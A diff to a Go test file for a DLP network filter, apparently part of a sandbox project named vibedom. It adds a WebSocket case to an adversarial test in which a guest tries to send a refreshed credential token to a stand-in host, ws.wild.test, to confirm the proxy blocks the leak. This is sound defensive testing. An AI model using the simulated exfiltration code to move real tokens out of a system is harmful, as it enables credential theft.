@@ -1,6 +1,7 @@
 package netfilter
 
 import (
+	"crypto/tls"
 	"encoding/base64"
 	"io"
 	"net/http"
@@ -11,12 +12,13 @@ import (
 
 	"github.com/vibedom/vibedom/credentials"
 	"github.com/vibedom/vibedom/dlp"
+	"golang.org/x/net/websocket"
 )
 
 // TestLoginSwapAdversarial (issue 21, adversarial): a guest that holds a
 // real token the host refreshed mid-session (the DLP's known values, fixed
 // at the start, do not hold it) cannot send it anywhere: not in a header,
-// the URL or a body (raw or base64), to another host or to the API host;
+// the URL, a body (raw or base64) or a WebSocket message, to another host or to the API host;
 // and a request to the token endpoint host spelled with a trailing dot or
 // in another case is answered by vibedom, never forwarded. Both engines.
 func TestLoginSwapAdversarial(t *testing.T) {
@@ -56,6 +58,20 @@ func TestLoginSwapAdversarial(t *testing.T) {
 		})
 		v.upstreamTLS("api.test", 443, v.upCA, record)
 		v.upstreamTLS("x.wild.test", 443, v.upCA, record)
+		v.upstreamTLS("ws.wild.test", 443, v.upCA, websocket.Handler(func(ws *websocket.Conn) {
+			for {
+				var msg string
+				if websocket.Message.Receive(ws, &msg) != nil {
+					return
+				}
+				mu.Lock()
+				if strings.Contains(msg, real2) {
+					leaked = append(leaked, "ws.wild.test websocket")
+				}
+				mu.Unlock()
+				websocket.Message.Send(ws, "ok")
+			}
+		}))
 		v.upstreamTLS("token.wild.test", 443, v.upCA, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			mu.Lock()
 			tokenHits++
@@ -88,6 +104,16 @@ func TestLoginSwapAdversarial(t *testing.T) {
 			}
 			io.Copy(io.Discard, resp.Body)
 			resp.Body.Close()
+		}
+		// In a WebSocket message.
+		tc := tls.Client(v.guestConn("ws.wild.test", 443), &tls.Config{ServerName: "ws.wild.test", RootCAs: v.ca.Pool(), NextProtos: []string{"http/1.1"}})
+		cfg, _ := websocket.NewConfig("wss://ws.wild.test/ws", "https://ws.wild.test/")
+		if ws, err := websocket.NewClient(cfg, tc); err == nil {
+			if websocket.Message.Send(ws, `{"t":"`+real2+`"}`) == nil {
+				var got string
+				websocket.Message.Receive(ws, &got) // the upstream saw the message (or the proxy cut it)
+			}
+			ws.Close()
 		}
 		for _, host := range []string{"token.wild.test.", "TOKEN.Wild.Test"} {
 			req, _ := http.NewRequestWithContext(t.Context(), "POST", "https://"+host+"/v1/oauth/token",
